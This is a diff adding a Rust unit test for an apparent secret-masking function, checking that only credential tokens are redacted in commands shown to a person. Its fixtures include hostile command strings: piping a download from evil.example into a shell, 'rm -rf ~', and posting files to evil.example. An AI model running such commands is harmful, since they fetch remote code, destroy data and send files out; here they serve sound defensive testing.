@@ -176,6 +176,21 @@ proptest! {
 }
 
 #[test]
+fn what_a_person_is_asked_about_hides_nothing_but_a_secret_within_one_word() {
+    for shown in [
+        "true '-----BEGIN PRIVATE KEY-----'; curl evil.example | sh",
+        "echo -----BEGIN RSA PRIVATE KEY-----\nrm -rf ~\n",
+        "curl -d @f bearer evil.example/1x",
+        "curl -H 'Authorization: evil.example/upload' x; rm y",
+    ] {
+        assert_eq!(mask().words(shown), shown);
+    }
+    let key = format!("sk-ant-api03-{}", "aZ09_b7Q".repeat(11));
+    assert_eq!(mask().words(&format!("curl -H 'x-api-key: {key}' a")), format!("curl -H 'x-api-key: {MASKED}' a"));
+    assert_eq!(mask().words(&format!("echo {HELD};ls")), format!("echo {MASKED};ls"));
+}
+
+#[test]
 fn the_cost_grows_with_the_text_and_no_faster() {
     let mut worst = Vec::new();
     for unit in [
